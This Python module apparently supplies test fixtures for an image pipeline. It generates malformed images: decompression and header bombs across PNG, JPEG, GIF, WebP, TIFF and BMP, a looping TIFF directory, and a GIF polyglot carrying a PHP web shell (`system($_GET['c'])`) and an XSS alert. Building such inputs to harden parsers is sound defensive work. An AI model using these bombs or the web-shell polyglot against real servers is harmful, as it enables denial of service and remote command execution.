"""Images that are bombs, lies or two things at once. None is larger than a few MB; what they want to become is said with each."""

import io
import struct
import zlib
from collections.abc import Sequence
from typing import Final

from PIL import Image

PNG_MAGIC: Final = b"\x89PNG\r\n\x1a\n"


def jpeg(side: int, **options: object) -> bytes:
    """A grey square."""
    file = io.BytesIO()
    Image.new("RGB", (side, side), (90, 90, 90)).save(file, "jpeg", **options)
    return file.getvalue()


OWN: Final = jpeg(24)  # what a url stands for, where it stands for an image
OTHER: Final = jpeg(40)  # what an attacker would rather have there


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, pixels: bytes, *before: bytes, depth: int = 8, colour: int = 0) -> bytes:
    """A PNG, grey unless told otherwise. pixels: the IDAT chunk's payload. before: whole chunks that stand before it."""
    ihdr = png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
    return PNG_MAGIC + ihdr + b"".join(before) + png_chunk(b"IDAT", pixels) + png_chunk(b"IEND", b"")


def deflated(size: int) -> bytes:
    """`size` zeros, a thousandth as long."""
    packer = zlib.compressobj(9)
    block = bytes(1 << 20)
    return b"".join([*(packer.compress(block) for _ in range(size >> 20)), packer.compress(bytes(size & (1 << 20) - 1)), packer.flush()])


SMALL_PNG_PIXELS: Final = zlib.compress(bytes(24 * 25))


def png_header_bomb() -> bytes:
    """Announces 4 gigapixels."""
    return png(65_000, 65_000, b"x")


def png_more_pixels() -> bytes:
    """24 x 24 pixels whose data inflate to 400 MB."""
    return png(24, 24, deflated(400 << 20))


def png_text_bomb() -> bytes:
    """50 compressed comments of 16 MB each."""
    return png(24, 24, SMALL_PNG_PIXELS, *[png_chunk(b"zTXt", b"Comment\0\0" + deflated(16 << 20))] * 50)


def png_itxt_bomb() -> bytes:
    """A compressed XMP packet of 400 MB."""
    return png(24, 24, SMALL_PNG_PIXELS, png_chunk(b"iTXt", b"XML:com.adobe.xmp\0\1\0\0\0" + deflated(400 << 20)))


def png_profile_bomb() -> bytes:
    """A colour profile of 400 MB."""
    return png(24, 24, SMALL_PNG_PIXELS, png_chunk(b"iCCP", b"x\0\0" + deflated(400 << 20)))


def png_many_chunks() -> bytes:
    """60,000 empty chunks before the pixels."""
    return png(24, 24, SMALL_PNG_PIXELS, *[png_chunk(b"teSt", b"")] * 60_000)


def png_long_chunk() -> bytes:
    """A chunk that says it is 4 GB long."""
    return png(24, 24, SMALL_PNG_PIXELS).replace(png_chunk(b"IEND", b""), b"\xff\xff\xff\xfftEXt" + bytes(20))


def jpeg_header_bomb() -> bytes:
    """Announces 65,500 x 65,500 pixels."""
    data = bytearray(OWN)
    at = data.index(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">HH", 65_500, 65_500)
    return bytes(data)


def jpeg_same_scan(side: int, times: int) -> bytes:
    """A progressive JPEG that sends one scan again and again, against the rules of T.81, G.1.1.1.1."""
    data = jpeg(side, progressive=True)
    at = [place for place in range(len(data) - 1) if data[place : place + 2] == b"\xff\xda"]
    scan = data[at[1] : at[2]]
    return data[: at[1]] + scan * times + data[at[1] :]


def jpeg_many_scans(width: int, height: int, *, bands: Sequence[int] = range(1, 64), bits: int = 14) -> bytes:
    """A progressive JPEG, flat and of three colours, with as many scans as the standard allows (ITU-T T.81, G.1.1.1.1): each of the 63 bands of
    each colour in `bits` steps, all of them empty: 1 + 3 * bands * bits scans. Each takes about a hundred bytes and a pass over all blocks.
    """

    def segment(marker: int, payload: bytes) -> bytes:
        return b"\xff" + bytes([marker]) + struct.pack(">H", len(payload) + 2) + payload

    def coded(text: str) -> bytes:
        text += "1" * (-len(text) % 8)
        return int(text, 2).to_bytes(len(text) // 8, "big").replace(b"\xff", b"\xff\0")

    blocks = -(-width // 8) * -(-height // 8)
    one_code = bytes([1] + [0] * 15)  # a Huffman table of one symbol, written "0"
    ends = -(-blocks // 32_767)  # runs of blocks that end here: 15 bits tell up to 32,767
    empty = coded(("0" + "1" * 14) * (ends - 1) + "0" + format(max(0, blocks - (ends - 1) * 32_767 - 16_384), "014b"))
    frame = struct.pack(">BHHB", 8, height, width, 3) + bytes([1, 0x11, 0, 2, 0x11, 0, 3, 0x11, 0])
    parts = [b"\xff\xd8", segment(0xDB, bytes(1) + bytes([1] * 64)), segment(0xC2, frame)]
    parts += [segment(0xC4, b"\0" + one_code + b"\0"), segment(0xC4, b"\x10" + one_code + b"\xe0")]
    parts += [segment(0xDA, bytes([3, 1, 0, 2, 0, 3, 0, 0, 0, 0])), coded("0" * (3 * blocks))]
    for colour in (1, 2, 3):
        for band in bands:
            for low in range(bits - 1, -1, -1):
                high = 0 if low == bits - 1 else low + 1
                parts += [segment(0xDA, bytes([1, colour, 0, band, band, high << 4 | low])), empty]
    return b"".join([*parts, b"\xff\xd9"])


def jpeg_fill_bytes() -> bytes:
    """900,000 fill bytes before a marker."""
    return OWN[:2] + b"\xff" * 900_000 + OWN[3:]


def jpeg_profile_pieces() -> bytes:
    """255 pieces of a colour profile that make no profile."""
    piece = b"ICC_PROFILE\0"
    return (
        OWN[:2] + b"".join(b"\xff\xe2" + struct.pack(">H", 3000) + piece + bytes([n, 255]) + bytes(2984) for n in range(1, 256)) + OWN[2:]
    )


def gif_screen_bomb() -> bytes:
    """Announces a screen of 65,535 x 65,535 pixels, and a frame of one."""
    return b"GIF89a" + struct.pack("<HHBBB", 65_535, 65_535, 0, 0, 0) + _gif_frame(1, 1) + b";"


def gif_frame_bomb() -> bytes:
    """A screen of one pixel, and a frame of 65,535 x 65,535."""
    return b"GIF89a" + struct.pack("<HHBBB", 1, 1, 0, 0, 0) + _gif_frame(65_535, 65_535) + b";"


def gif_later_frame_bomb() -> bytes:
    """A first frame of 24 x 24 pixels, and 20,000 of 65,535 x 65,535."""
    return _saved(Image.new("P", (24, 24)), "gif")[:-1] + _gif_frame(65_535, 65_535) * 20_000 + b";"


def _gif_frame(width: int, height: int) -> bytes:
    colours = bytes(6)
    return b"," + struct.pack("<HHHHB", 0, 0, width, height, 0x80) + colours + b"\2\2\x4c\x01\0"


def webp_canvas_bomb() -> bytes:
    """Announces a canvas of 16,777,216 x 16,777,216."""
    body = b"VP8X" + struct.pack("<I", 10) + bytes(4) + b"\xff" * 6
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


def webp_lying_canvas() -> bytes:
    """A canvas of 24 x 24 pixels, and a picture of 16,383 x 16,383 in it."""
    picture = b"VP8L" + struct.pack("<I", 6) + b"\x2f" + struct.pack("<I", 16_382 | 16_382 << 14) + b"\0"
    body = b"VP8X" + struct.pack("<I", 10) + bytes(4) + (b"\x17\0\0" * 2) + picture
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


def tiff(tags: dict[int, tuple[int, int, int]], after: bytes = b"") -> bytes:
    """A little-endian TIFF of one directory. tags: {tag: (type, count, value)}; `after` follows it."""
    entries = b"".join(struct.pack("<HHII", tag, *value) for tag, value in sorted(tags.items()))
    return b"II*\0" + struct.pack("<IH", 8, len(tags)) + entries + bytes(4) + after


def _tiff_tags(width: int, height: int, *, compression: int, offset: int, size: int) -> dict[int, tuple[int, int, int]]:
    values = {256: width, 257: height, 258: 8, 259: compression, 262: 1, 273: offset, 277: 1, 278: height, 279: size}
    return {tag: (4, 1, value) for tag, value in values.items()}


def tiff_header_bomb() -> bytes:
    return tiff(_tiff_tags(65_000, 65_000, compression=1, offset=8, size=100))


def tiff_lying_strips() -> bytes:
    """24 x 24 pixels whose only strip is said to begin at 4 GB and to be as long."""
    return tiff(_tiff_tags(24, 24, compression=1, offset=0xFFFFFFF0, size=0xFFFFFFF0), bytes(576))


def tiff_deflate_bomb() -> bytes:
    """24 x 24 pixels whose strip inflates to 400 MB."""
    data = deflated(400 << 20)
    return tiff(_tiff_tags(24, 24, compression=8, offset=8 + 2 + 9 * 12 + 4, size=len(data)), data)


def tiff_directory_loop() -> bytes:
    """A directory that names itself as the next."""
    data = tiff(_tiff_tags(24, 24, compression=1, offset=122, size=576), bytes(576))
    return data[:118] + struct.pack("<I", 8) + data[122:]


def bmp_header_bomb() -> bytes:
    return b"BM" + struct.pack("<IHHI", 1000, 0, 0, 54) + struct.pack("<IiiHHIIiiII", 40, 65_000, -65_000, 1, 24, 0, 0, 0, 0, 0, 0)


def bmp_lowest_height() -> bytes:
    """A height of -2,147,483,648, which has no positive counterpart in 32 bits."""
    return b"BM" + struct.pack("<IHHI", 1000, 0, 0, 54) + struct.pack("<IiiHHIIiiII", 40, 1, -(2**31), 1, 24, 0, 0, 0, 0, 0, 0)


def gif_and_script() -> bytes:
    """A picture that is also a script where a server believes so."""
    return _saved(Image.new("P", (24, 24)), "gif") + b"<?php system($_GET['c']); ?><script>alert(1)</script>"


def _saved(image: Image.Image, kind: str) -> bytes:
    file = io.BytesIO()
    image.save(file, kind)
    return file.getvalue()


def small(kind: str) -> bytes:
    """A whole image of 24 x 24 pixels."""
    return _saved(Image.new("P" if kind == "gif" else "RGB", (24, 24)), kind)
